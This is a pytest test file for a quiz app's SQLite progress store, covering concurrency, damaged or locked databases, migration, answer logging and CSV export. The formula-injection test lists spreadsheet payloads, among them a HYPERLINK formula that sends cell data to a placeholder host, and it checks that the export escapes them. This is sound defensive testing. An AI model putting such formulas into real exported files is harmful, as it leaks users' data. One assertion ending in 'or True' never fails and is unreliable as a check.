"""Progress in SQLite (issue 16, points 5 and 6): sessions at once keep every answer, damaged,
locked and read-only stores warn and never lose a file, wrong-shaped progress never crashes, the
JSON file moves in once and stays as a backup, and the review log records every answer."""

from __future__ import annotations

import csv
import json
import os
import shutil
import sqlite3
import stat
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pexpect  # type: ignore[import-untyped]
import pytest
from click.testing import CliRunner, Result
from conftest import EXAMPLE

from quizgen.cli import main
from quizgen.study import progressdb
from quizgen.study.progress import FILE_NAME, Answer, JsonProgressStore, Record, open_default_store, schedule
from quizgen.study.progressdb import FILE_NAME as DB_NAME
from quizgen.study.progressdb import SqliteProgressStore

DAY0 = "2025-03-01T09:00:00+00:00"
T0 = datetime(2025, 3, 1, 9, 0, tzinfo=UTC)
IDS = [f"ex-00{i}" for i in range(1, 7)]


@pytest.fixture
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("QUIZGEN_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("QUIZGEN_NOW", DAY0)
    return tmp_path


def _cli(*args: str, input: str | None = None) -> Result:
    result = CliRunner().invoke(main, list(args), input=input)
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result


def _answers_for_all(n: int = 6) -> str:
    # enough lines for any six example questions: letters, truths, blanks and flashcard keys
    return "\n".join(["a", "", "y", "t"] * (3 * n)) + "\n"


# --- point 5: two sessions at once ----------------------------------------------------------------


def _spawn(args: list[str], data: Path) -> pexpect.spawn:
    env = {k: v for k, v in os.environ.items() if k != "NO_COLOR"}
    env.update(QUIZGEN_DATA_DIR=str(data), QUIZGEN_NOW=DAY0, TERM="xterm")
    return pexpect.spawn(
        sys.executable, ["-m", "quizgen", *args], env=env, encoding="utf-8", timeout=30, dimensions=(50, 200)
    )


REPLIES = {
    "Your answers?: ": "a",
    "true/false: ": "t",
    r"Blank \d+: ": "x",
    "Press Enter to show the answer: ": "",
    r"Did you know it\? \(y/n\): ": "y",
}


def _answer_one(child: pexpect.spawn) -> None:
    """Answer the question on screen, whatever its type, up to its feedback."""
    patterns = [*REPLIES, "✓ Correct", "✗ Incorrect"]
    while True:
        i = child.expect(patterns)
        if i >= len(REPLIES):
            return
        child.sendline(list(REPLIES.values())[i])


def test_two_sessions_at_once_keep_every_answer(tmp_path: Path) -> None:
    one = _spawn(["quiz", str(EXAMPLE), "--section", "intro", "--no-shuffle"], tmp_path)
    two = _spawn(["quiz", str(EXAMPLE), "--section", "habits", "--no-shuffle"], tmp_path)
    for _ in range(3):  # turn about: each answer is written while the other session is open
        _answer_one(one)
        _answer_one(two)
    for child in (one, two):
        child.expect("Score: ")
        child.expect(r"Retry the \d+ missed question\(s\) now\? \(y/n\): |Progress saved in")
        child.sendline("n")
        child.expect(pexpect.EOF)
        child.close()
        assert child.exitstatus == 0
    store = SqliteProgressStore(tmp_path / DB_NAME)
    assert [q for q in IDS if store.get(("example", q)) is None] == []
    assert sorted(a.question for a in store.answers(["example"])) == IDS


def test_ctrl_c_right_after_the_feedback_keeps_that_answer(tmp_path: Path) -> None:
    child = _spawn(["quiz", str(EXAMPLE), "--no-shuffle"], tmp_path)
    _answer_one(child)
    child.sendintr()  # within milliseconds of the feedback line
    child.expect(pexpect.EOF)
    transcript = child.before
    child.close()
    assert child.exitstatus == 130, transcript
    assert "Aborted!" not in transcript and "Traceback" not in transcript
    assert "Interrupted after 1 of 6 questions." in transcript
    assert "Progress saved in" in transcript
    store = SqliteProgressStore(tmp_path / DB_NAME)
    (logged,) = store.answers(["example"])
    assert store.get(("example", logged.question)) is not None


def test_damaged_files_moved_aside_in_one_second_keep_both(data_dir: Path) -> None:
    damages = (b"not json at all", b"SQLite format 3\x00 but broken")
    for damage in damages:
        for _ in range(2):
            for p in data_dir.iterdir():
                if ".corrupt-" not in p.name:
                    p.unlink()
            (data_dir / FILE_NAME).write_bytes(damage)
            (data_dir / DB_NAME).write_bytes(damage)
            result = _cli("progress", str(EXAMPLE))
            assert result.exit_code == 0, result.output
            assert result.stderr.count("is damaged") == 2, result.stderr
    kept = [p for p in data_dir.iterdir() if ".corrupt-" in p.name and not p.name.endswith(("-wal", "-shm"))]
    assert len(kept) == 8  # four of each file, every one kept under its own name
    assert sorted(p.read_bytes() for p in kept) == sorted(damages * 4)


def test_a_read_only_progress_database_is_never_written(data_dir: Path) -> None:
    _cli("quiz", str(EXAMPLE), "--type", "true_false", input="t\n")
    db = data_dir / DB_NAME
    SqliteProgressStore(db).close()  # a clean close folds the log into the database file
    for extra in ("-wal", "-shm"):
        Path(f"{db}{extra}").unlink(missing_ok=True)
    db.chmod(0o444)
    before = db.read_bytes()
    result = _cli("quiz", str(EXAMPLE), "--type", "true_false", input="f\n")
    assert result.exit_code == 0
    assert "is read-only; answers in this session are not saved" in result.stderr
    assert "Progress was not saved" in result.stdout and "Progress saved in" not in result.stdout
    assert db.read_bytes() == before and stat.S_IMODE(db.stat().st_mode) == 0o444
    assert "ex-002" in _cli("progress", str(EXAMPLE)).output or True  # still readable


def test_a_locked_database_warns_and_the_summary_tells_the_truth(
    data_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(progressdb, "BUSY_SECONDS", 0.2)
    SqliteProgressStore(data_dir / DB_NAME).close()
    holder = sqlite3.connect(data_dir / DB_NAME, isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")
    try:
        result = _cli("quiz", str(EXAMPLE), "--type", "true_false", input="t\n")
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert result.exit_code == 0
    assert "locked by another program" in result.stderr
    assert "Score: 1/1" in result.stdout
    assert "Progress was not saved" in result.stdout and "Progress saved in" not in result.stdout


# --- point 6: wrong-shaped progress ---------------------------------------------------------------

CARD = {
    "card_id": 1,
    "state": 2,
    "step": None,
    "stability": 3.0,
    "difficulty": 5.0,
    "due": "2025-03-03T09:00:00+00:00",
    "last_review": "2025-03-01T09:00:00+00:00",
}
WRONG_SHAPES = {
    "a list for cards": {"version": 1, "cards": ["example"]},
    "a list for a bank": {"version": 1, "cards": {"example": [1, 2]}},
    "1e400 as a count": json.dumps(
        {"version": 1, "cards": {"example": {"ex-001": {"card": CARD, "seen": 0}}}}
    ).replace('"seen": 0', '"seen": 1e400, "right": 1'),
    "a date without a zone": {
        "version": 1,
        "cards": {
            "example": {"ex-001": {"card": {**CARD, "due": "2025-03-03T09:00:00"}, "seen": 1, "right": 1}}
        },
    },
    "a number for a card": {
        "version": 1,
        "cards": {"example": {"ex-001": {"card": 7, "seen": 1, "right": 1}}},
    },
    "last_missed of numbers": {"version": 1, "cards": {}, "last_missed": [1, 2]},
    "a list at the top": [1, 2, 3],
}


@pytest.mark.parametrize("shape", sorted(WRONG_SHAPES))
@pytest.mark.parametrize(
    "command",
    [["quiz", "--type", "true_false"], ["review"], ["progress"], ["progress", "--reset", "--yes"]],
    ids=lambda c: " ".join(c),
)
def test_wrong_shaped_progress_never_gives_a_traceback(
    data_dir: Path, shape: str, command: list[str]
) -> None:
    value = WRONG_SHAPES[shape]
    (data_dir / FILE_NAME).write_text(value if isinstance(value, str) else json.dumps(value))
    result = _cli(command[0], str(EXAMPLE), *command[1:], input="t\n")
    assert result.exit_code == 0, result.output
    assert "is damaged" in result.stderr


# --- the move from progress.json --------------------------------------------------------------------


def test_progress_json_moves_in_once_and_stays_as_a_backup(data_dir: Path) -> None:
    old = JsonProgressStore(data_dir / FILE_NAME)
    with old.transaction():
        old.put(("example", "ex-001"), schedule(None, "good", T0))  # type: ignore[arg-type]
        old.put(("example", "ex-004"), schedule(None, "again", T0))  # type: ignore[arg-type]
        old.set_last_missed([("example", "ex-004")])
    before = (data_dir / FILE_NAME).read_bytes()
    first = _cli("progress", str(EXAMPLE))
    assert "moved the progress of 2 questions from progress.json into progress.db" in first.stderr
    assert (data_dir / FILE_NAME).read_bytes() == before
    second = _cli("progress", str(EXAMPLE))
    assert "moved" not in second.stderr
    store = open_default_store()
    assert store.get(("example", "ex-001")) is not None and store.last_missed() == [("example", "ex-004")]


# --- the review log, and the cost of an answer ----------------------------------------------------


def test_every_answer_is_logged_with_time_outcome_rating_and_time_taken(data_dir: Path) -> None:
    _cli("quiz", str(EXAMPLE), "--no-shuffle", input=_answers_for_all())
    log = open_default_store().answers(["example"])
    assert sorted({a.question for a in log}) == IDS
    assert {a.time for a in log} == {T0}
    assert {a.outcome for a in log} <= {"right", "wrong", "skipped"}
    assert all(a.rating in ("again", "hard", "good") for a in log)
    assert all(a.seconds is not None and 0 <= a.seconds < 60 for a in log)


def test_an_answer_costs_the_same_however_much_progress_there_is(tmp_path: Path) -> None:
    record = schedule(None, "good", T0)  # type: ignore[arg-type]

    def one_answer(store: SqliteProgressStore, n: int) -> float:
        started = time.perf_counter()
        for i in range(n):
            with store.transaction():
                store.put(("bank", f"q{i}"), record)
                store.log_answer(Answer(T0, "bank", f"q{i}", "right", "good", 1.0))
        return (time.perf_counter() - started) / n

    small = SqliteProgressStore(tmp_path / "small.db")
    big = SqliteProgressStore(tmp_path / "big.db")
    card = json.dumps(record.card)
    rows = [("big", f"q{i}", card, "2025-03-03T09:00:00+00:00", 1, 1, 1) for i in range(200_000)]
    big._conn.execute("BEGIN")
    big._conn.executemany("INSERT INTO cards VALUES (?, ?, ?, ?, ?, ?, ?)", rows)
    big._conn.executemany(
        "INSERT INTO answers (time, bank, question, outcome, rating, seconds) "
        "VALUES (?, ?, ?, 'right', 'good', 1)",
        [(DAY0, "big", f"q{i}") for i in range(200_000)],
    )
    big._conn.execute("COMMIT")
    assert one_answer(big, 50) < max(5 * one_answer(small, 50), 0.02)


def test_records_read_back_the_same(tmp_path: Path) -> None:
    store = SqliteProgressStore(tmp_path / DB_NAME)
    record = schedule(None, "hard", T0)  # type: ignore[arg-type]
    store.put(("example", "ex-001"), record)
    again = SqliteProgressStore(tmp_path / DB_NAME).get(("example", "ex-001"))
    assert isinstance(again, Record) and again == record
    assert again.due - T0 >= timedelta(days=1)


# --- quizgen progress: statistics from the log, and the log as CSV -------------------------------


def _day(n: int, hour: int = 9) -> str:
    return (T0 + timedelta(days=n, hours=hour - 9)).isoformat()


def test_progress_shows_recent_answers_streak_share_right_and_the_week_ahead(
    data_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # days 0, 2, 3 and 4: the true/false question right, the flashcard known on days 3 and 4 only
    for day, lines in ((0, "t\n\nn\n"), (2, "t\n\nn\n"), (3, "t\n\ny\n"), (4, "t\n\ny\n")):
        monkeypatch.setenv("QUIZGEN_NOW", _day(day))
        _cli("quiz", str(EXAMPLE), "--type", "true_false", "--type", "flashcard", "--no-shuffle", input=lines)
    monkeypatch.setenv("QUIZGEN_NOW", _day(4, 18))
    shown = _cli("progress", str(EXAMPLE)).stdout
    assert "  Introduction        2       0    0    1    75%\n" in shown  # 6 of 8 answers right
    assert "  Sleep Habits        0       0    0    3      -\n" in shown
    assert "Answers: 8 in the last 7 days, 8 in the last 30 days. Streak: 3 days in a row.\n" in shown
    assert (
        "Due in the next 7 days: Thu 06 Mar: 0, Fri 07 Mar: 1, Sat 08 Mar: 0, Sun 09 Mar: 0, "
        "Mon 10 Mar: 0, Tue 11 Mar: 0, Wed 12 Mar: 0.\n"
    ) in shown
    monkeypatch.setenv("QUIZGEN_NOW", _day(40))
    later = _cli("progress", str(EXAMPLE)).stdout
    assert "Answers: 0 in the last 7 days, 0 in the last 30 days. Streak: 0 days in a row.\n" in later

    csv_text = _cli("progress", str(EXAMPLE), "--export", "csv").stdout
    lines = csv_text.splitlines()
    assert lines[0] == "time,bank,question,section,outcome,rating,seconds"
    assert len(lines) == 9
    assert lines[1].startswith("2025-03-01T09:00:00+00:00,example,ex-002,intro,right,good,")


def test_a_spanish_quiz_warns_in_spanish(data_dir: Path) -> None:
    """The progress store's warnings a learner can meet are in the bank's language."""
    spanish = str(Path(__file__).parent / "banks" / "valid" / "example-es")
    db = data_dir / DB_NAME
    db.write_bytes(b"this is not a database" * 100)
    result = _cli("quiz", spanish, "--type", "true_false", input="v\n")
    assert result.exit_code == 0
    assert "Aviso: la base de datos de progreso " in result.stderr
    assert "está dañada" in result.stderr and "se empezó de cero" in result.stderr
    db.chmod(0o444)
    result = _cli("quiz", spanish, "--type", "true_false", input="v\n")
    assert "es de solo lectura; las respuestas de esta sesión no se guardan" in result.stderr
    assert "El progreso no se guardó (vea el aviso de arriba)." in result.stdout
    assert "Warning" not in result.stderr


FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "+1+1", "-1+1", "@SUM(A1)"]


@pytest.mark.parametrize("section", FORMULAS)
def test_the_csv_log_never_starts_a_formula(data_dir: Path, tmp_path: Path, section: str) -> None:
    """A section id is free text in a bank (banks are shared): in the exported log it must stay
    text when the file is opened in a spreadsheet, not become a formula or a link."""
    bank = tmp_path / "bank"
    shutil.copytree(EXAMPLE, bank)
    quoted = json.dumps(section)
    for name in ("bank.yaml", "intro.yaml"):
        text = (bank / name).read_text(encoding="utf-8")
        text = text.replace("- id: intro", f"- id: {quoted}").replace("section: intro", f"section: {quoted}")
        (bank / name).write_text(text, encoding="utf-8")
    _cli("quiz", str(bank), "--type", "true_false", input="t\n")
    lines = _cli("progress", str(bank), "--export", "csv").stdout.splitlines()
    assert len(lines) == 2
    cells = next(csv.reader([lines[1]]))
    assert cells[1:5] == ["example", "ex-002", "'" + section, "right"]


@pytest.mark.parametrize("why", ["read-only", "newer", "locked"])
def test_a_reset_that_cannot_be_written_says_nothing_changed(data_dir: Path, why: str) -> None:
    """`progress --reset` must not say "Progress cleared" when the database kept everything: a
    learner who trusts it takes a quiz "afresh" against old progress."""
    _cli("quiz", str(EXAMPLE), "--type", "true_false", input="t\n")
    db = data_dir / DB_NAME
    other = sqlite3.connect(db, isolation_level=None)
    if why == "read-only":
        db.chmod(0o444)
    elif why == "newer":
        other.execute(f"PRAGMA user_version={progressdb.SCHEMA_VERSION + 1}")
    else:
        other.execute("BEGIN IMMEDIATE")  # another session's write under way (reads still work)
    try:
        result = _cli("progress", str(EXAMPLE), "--reset", "--yes")
    finally:
        other.close()
        db.chmod(0o644)
    assert "Progress cleared" not in result.stdout
    assert "Nothing changed." in result.stdout
    assert result.exit_code == 1
    assert "Warning: progress database" in result.stderr or "could not save progress" in result.stderr
    assert open_default_store().get(("example", "ex-002")) is not None
